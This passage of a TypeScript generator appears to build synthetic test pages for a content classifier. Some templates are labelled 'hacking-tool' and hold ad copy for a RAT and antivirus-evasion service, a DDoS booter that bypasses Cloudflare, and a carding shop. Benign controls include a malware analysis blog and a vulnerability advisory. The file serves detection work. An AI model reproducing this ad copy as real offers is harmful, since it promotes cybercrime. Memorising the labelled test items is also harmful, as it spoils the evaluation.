              [
                `远控木马 ${rng.int(3, 9)}.0 全功能版 月卡 ${money(rng, 200, 600)} 元`,
                '过主流杀软免杀服务 单次 300 元',
                '批量 getshell 工具 + 一句话木马生成器',
                '撞库脚本 附 2024 最新社工库',
                '肉鸡抓取 自动上线',
              ],
              4,
            ),
          ),
          para(
            rng,
            [
              '购买后自动发卡，包更新。',
              '只收 USDT，联系 Telegram 客服。',
              '所有工具仅供授权测试（懂的都懂）。',
            ],
            3,
          ),
        ],
        footer: '售出不退',
      }),
    ),
  ),
  H('stresser-en', 'hacking-tool', N, (rng) =>
    html(
      render2(rng, {
        lang: 'en',
        title: `${rng.pick(['NightStress', 'BootHub', 'PowerStresser'])} - Layer 4 & Layer 7 stress testing`,
        menu: ['Plans', 'Methods', 'API', 'Login'],
        blocks: [
          ul([
            `UDP / TCP-SYN / DNS amplification up to ${money(rng, 100, 900)} Gbps`,
            'HTTP flood with Cloudflare and DDoS-Guard bypass',
            `Boot time up to ${money(rng, 600, 7200)} seconds`,
            'API access for resellers',
          ]),
          `<table class="plans"><tr><td>Basic</td><td>$${money(rng, 15, 30)}/mo</td></tr><tr><td>VIP</td><td>$${money(rng, 80, 200)}/mo</td></tr></table>`,
          para(
            rng,
            [
              'Hit any IP or website offline in seconds.',
              'We accept Bitcoin and Monero only.',
              'No logs kept.',
            ],
            3,
          ),
        ],
        footer: 'For testing your own servers only.',
      }),
    ),
  ),
  H('tool-archive', 'hacking-tool', N, (rng, i) => ({
    ext: 'zip',
    name: rng.pick(['tools', 'pack', 'soft', 'down', 'update']) + String(i),
    content: zip(rng.pick(toolPacks).map((name) => ({ name, text: `# ${rng.word(12)}\n` }))),
  })),
  H('carding-shop-en', 'hacking-tool', N, (rng) =>
    html(
      render2(rng, {
        lang: 'en',
        title: `${rng.pick(['DumpsKing', 'CVVShop', 'LogsMarket'])} - fresh cards, bank logs, checkers`,
        menu: ['Cards', 'Dumps', 'Bank logs', 'Tools', 'Deposit'],
        blocks: [
          ul([
            `US cards with CVV $${money(rng, 5, 25)}`,
            'Track 1/2 dumps with PIN',
            'Bank logs with email access',
            'CC checker and BIN lookup tool',
            'Phishing page kits for Office 365 and banks',
          ]),
          para(
            rng,
            [
              'Valid rate over 90%, replacement within 10 minutes.',
              'Deposit BTC, LTC or XMR.',
              'Stealer logs updated daily.',
            ],
            3,
          ),
        ],
        footer: 'Join our Telegram channel for updates',
      }),
    ),
  ),
  // controls
  H('malware-analysis-blog-zh', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['某安全实验室', '威胁情报中心'])}：${rng.pick(['银狐木马', '勒索病毒', '挖矿蠕虫'])}最新变种分析`,
        menu: ['研究', '漏洞', '情报', '关于'],
        blocks: [
          para(
            rng,
            [
              '近期我们捕获到一批通过钓鱼邮件传播的远控木马样本。',
              '样本使用白加黑方式加载，并尝试关闭安全软件。',
              '攻击者随后使用 mimikatz 抓取凭据并横向移动。',
              '本文给出IOC与检测规则，建议企业及时排查。',
              '如需应急响应服务，请联系我们。',
            ],
            4,
          ),
          ul([
            `MD5: ${rng.hex(32)}`,
            `C2: ${rng.int(10, 200)}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(0, 255)}`,
          ]),
        ],
        footer: '© 安全实验室',
      }),
    ),
  ),
  H('pentest-course-en', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'en',
        title: `${rng.pick(['Offensive Security Foundations', 'Practical Pentesting', 'Red Team 101'])} - course`,
        menu: ['Syllabus', 'Labs', 'Pricing', 'FAQ'],
        blocks: [
          ul([
            'Module 3: exploitation with Metasploit in our lab network',
            'Module 5: password attacks and hash cracking',
            'Module 7: Active Directory and Cobalt Strike detection',
            'Module 9: writing the report',
          ]),
          para(
            rng,
            [
              'Only attack systems you own or are authorised to test.',
              'All labs run in an isolated cloud environment.',
              'Prepares you for industry certifications.',
            ],
            3,
          ),
        ],
        footer: '© Training Ltd',
      }),
    ),
  ),
  H('site-backup-archive', 'benign', N, (rng, i) => ({
    ext: 'zip',
    name: rng.pick(['backup', 'site', 'theme', 'release']) + String(i),
    content: zip(
      rng
        .some(
          [
            'index.php',
            'wp-config-sample.php',
            'assets/css/main.css',
            'assets/js/app.js',
            'README.md',
            'LICENSE',
            'composer.json',
          ],
          4,
        )
        .map((name) => ({ name, text: `/* ${rng.word(10)} */\n` })),
    ),
  })),
  H('vuln-advisory-zh', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'zh-CN',
        title: `关于${rng.pick(['Apache Struts2', 'Spring Framework', 'ThinkPHP'])}远程代码执行漏洞的安全公告`,
        menu: ['漏洞公告', '补丁', '联系'],
        blocks: [
          para(
            rng,
            [
              '近日，厂商发布安全更新，修复了一个可导致远程代码执行的高危漏洞。',
              '攻击者可构造恶意请求写入webshell。',
              '目前漏洞利用代码已公开，建议用户尽快升级到最新版本。',
              '临时缓解措施：在WAF中拦截包含特定参数的请求。',
            ],
            4,
          ),
        ],
        footer: '国家信息安全漏洞共享平台',
      }),
    ),
  ),
];

export const HELDOUT2_PAGES: Archetype[] = [...GAMBLING, ...PORN, ...FRAUD, ...PIRACY, ...HACKING];
